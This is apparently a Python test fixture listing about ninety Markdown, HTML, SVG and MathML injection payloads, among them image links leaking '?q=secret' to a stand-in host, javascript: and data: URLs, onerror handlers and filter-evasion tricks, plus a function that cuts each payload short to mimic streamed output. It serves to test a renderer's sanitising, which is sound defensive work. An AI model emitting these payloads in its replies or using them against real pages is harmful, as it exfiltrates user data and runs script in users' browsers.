"""What hostile documents and models write to run a script or to send words elsewhere.

Every payload, were it taken for more than text, would ask `EVIL`, open a dialog or leave the page.
"""

from __future__ import annotations

EVIL = "http://127.0.0.1:9"

PAYLOADS = (
    # Markdown: inline, by reference, as an autolink
    f"![pixel]({EVIL}/1.png?q=secret)",
    f"![pixel](<{EVIL}/2.png?q=secret>)",
    f'![pixel]({EVIL}/3.png "title")',
    f"[click me]({EVIL}/4)",
    f"[![nested]({EVIL}/5.png)]({EVIL}/5)",
    f"![ref][pixel]\n\n[pixel]: {EVIL}/6.png",
    f"[ref][link]\n\n[link]: {EVIL}/7 'title'",
    f"![pixel]\n\n[pixel]: <{EVIL}/8.png>",
    f"<{EVIL}/9>",
    f"{EVIL}/10?q=secret",
    "www.127.0.0.1:9/11",
    "<mailto:thief@127.0.0.1>",
    f"[^1]\n\n[^1]: ![note]({EVIL}/13.png)",
    "![a](//127.0.0.1:9/14.png)",
    "![a](\\\\127.0.0.1:9\\15.png)",
    "![a](http:\n//127.0.0.1:9/16.png)",
    f"| a | b |\n|---|---|\n| ![cell]({EVIL}/17.png) | [b]({EVIL}/17) |",
    f"- ![item]({EVIL}/18.png)\n  - [deeper]({EVIL}/18)",
    f"> ![quoted]({EVIL}/19.png)",
    f"# ![heading]({EVIL}/20.png)",
    f"**![bold]({EVIL}/21.png)**",
    f"`` ` ``![after code]({EVIL}/22.png)",
    f"```\ncode\n```\n![after]({EVIL}/23.png)",
    f"\\![escaped](\\{EVIL}/24.png)",
    f"[1]({EVIL}/25) [2]: {EVIL}/25",
    f"[?x7k2]({EVIL}/26)",
    # What Streamlit's own Markdown would make more of
    f"$$\\href{{{EVIL}/27}}{{x}}$$",
    f"$\\includegraphics{{{EVIL}/28.png}}$",
    f"$\\url{{{EVIL}/29}}$",
    f":red[text ![a]({EVIL}/30.png)]",
    ":material/home: :streamlit: :smile:",
    f":blue-background[<img src={EVIL}/32.png>]",
    # Addresses that are scripts or pages of their own
    "[a](javascript:alert(33))",
    "[a](JaVaScRiPt:alert(34))",
    "[a](java\tscript:alert(35))",
    "[a](&#106;avascript:alert(36))",
    "[a](vbscript:msgbox(37))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgzOCk8L3NjcmlwdD4=)",
    "![a](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(39)'/>)",
    "<a href='javascript:alert(40)'>a</a>",
    "[a](file:///etc/passwd)",
    "[a](blob:http://127.0.0.1:9/42)",
    # HTML
    "<script>alert(43)</script>",
    f"<script src='{EVIL}/44.js'></script>",
    "<img src=x onerror=alert(45)>",
    f"<img src='{EVIL}/46.png'>",
    f"<img srcset='{EVIL}/47.png 2x'>",
    f"<picture><source srcset='{EVIL}/48.png'><img></picture>",
    f"<iframe src='{EVIL}/49'></iframe>",
    "<iframe srcdoc='<script>parent.alert(50)</script>'></iframe>",
    f"<object data='{EVIL}/51'></object><embed src='{EVIL}/51'>",
    f"<form action='{EVIL}/52'><input autofocus onfocus=alert(52)></form>",
    f"<link rel=stylesheet href='{EVIL}/53.css'><link rel=preconnect href='{EVIL}'>",
    f"<style>@import '{EVIL}/54.css'; * {{ background: url({EVIL}/54.png) }}</style>",
    f"<p style='background: url({EVIL}/55.png)'>styled</p>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/56'>",
    f"<base href='{EVIL}/'>",
    f"<video src='{EVIL}/58' poster='{EVIL}/58.png' autoplay></video>",
    "<details open ontoggle=alert(59)><summary>a</summary></details>",
    "<body onload=alert(60) onpageshow=alert(60)>",
    f"<a href='{EVIL}/61' ping='{EVIL}/61'>a</a>",
    f"<table background='{EVIL}/62.png'><tr><td>a</td></tr></table>",
    "<template shadowrootmode=open><script>alert(63)</script></template>",
    "<style>@keyframes x{}</style><b style='animation: x' onanimationstart=alert(64)>a</b>",
    # SVG and MathML
    "<svg onload=alert(65)></svg>",
    f"<svg><image href='{EVIL}/66.png'/><use href='{EVIL}/66.svg#a'/></svg>",
    "<svg><script>alert(67)</script></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(68)</script>'/></foreignObject></svg>",
    "<svg><animate onbegin=alert(69) attributeName=x dur=1s></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(70)></style></mglyph></table>",
    # Nested, broken, and out of the attribute or comment that they are put in
    '"><img src=x onerror=alert(71)>',
    "' onmouseover='alert(72)' x='",
    '" autofocus onfocus="alert(73)" tabindex="0',
    "</p></div></article><script>alert(74)</script>",
    "</title></textarea></style></script><img src=x onerror=alert(75)>",
    "<scr<script>ipt>alert(76)</scr</script>ipt>",
    "<<img src=x onerror=alert(77)>",
    "<img src=x onerror=alert(78)//",
    "<!--><img src=x onerror=alert(79)>-->",
    "<![CDATA[><img src=x onerror=alert(80)>]]>",
    "&lt;img src=x onerror=alert(81)&gt;",
    "&#60;img src=x onerror=alert(82)&#62;",
    "\\u003cimg src=x onerror=alert(83)\\u003e",
    "<noscript><p title='</noscript><img src=x onerror=alert(84)>'></noscript>",
    "<img\x0csrc=x\x0conerror=alert(85)>",
    "<img/src=x/onerror=alert(86)>",
    f"![a]({EVIL}/87.png)<img src='{EVIL}/87.png'>[b]({EVIL}/87){EVIL}/87",
    "＜script＞alert(88)＜/script＞",
)


def beginnings() -> str:
    """Every payload as it stands in a stream of which a quarter, a half, three quarters and all
    but one character have arrived, each in a paragraph of its own."""
    cuts = (
        payload[: len(payload) * part // 4 if part < 4 else -1]
        for payload in PAYLOADS
        for part in (1, 2, 3, 4)
    )
    return "\n\n".join(cuts)
